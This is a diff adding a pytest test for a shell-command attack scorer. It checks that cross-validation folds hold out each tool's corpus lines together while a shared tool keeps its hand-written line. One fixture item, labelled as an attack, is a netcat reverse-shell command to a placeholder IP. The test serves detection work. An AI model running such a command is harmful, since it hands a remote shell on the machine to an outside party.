@@ -481,6 +481,36 @@ def test_leave_ecosystems_out_takes_every_line_of_the_held_ecosystems_out_of_tra
     assert sorted(seen) == [i for i, it in enumerate(items) if not it.label and it.group != "breadth"]
 
 
+def test_a_tool_every_corpus_shares_keeps_its_written_lines_when_held_out(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    ts: Any = _train_scorer_module()
+    items = [
+        ts.Item("dev", 1, "nc -e /bin/sh 203.0.113.1 4444"),
+        ts.Item("1", 0, "curl -s http://localhost:8000/health"),
+        ts.Item("2", 0, "curl -I https://example.org"),
+        ts.Item("2", 0, "smartctl -H /dev/sdb"),
+        ts.Item("breadth", 0, "curl -fsSL https://sh.rustup.rs -o rustup.sh"),
+        ts.Item("breadth", 0, "sudo smartctl --scan"),
+    ]
+    seen: dict[int, list[tuple[list[int], list[int]]]] = {}
+    for common in (0, 2):
+        got = seen[common] = []
+        monkeypatch.setattr(
+            ts, "measure", lambda tr, name, train, held, got=got: got.append((train, held))
+        )
+        tr = object.__new__(ts.Trainer)
+        tr.items = items
+        ts.ecosystem_folds(tr, 2, None, common)
+    for common, kept in ((0, False), (2, True)):
+        for train, held in seen[common]:
+            if 1 in held:  # curl's fold: its corpus lines are out, its written line?
+                assert 2 in held and 1 not in train and 2 not in train
+                assert (4 in train) is kept
+            if 3 in held:  # a tool one corpus holds leaves with every line of it
+                assert 5 not in train
+
+
 def test_a_feature_weighs_for_an_attack_only_if_several_sets_attacks_hold_it() -> None:
     pytest.importorskip("sklearn", reason="training needs the 'train' extra (scikit-learn)")
     ts: Any = _train_scorer_module()
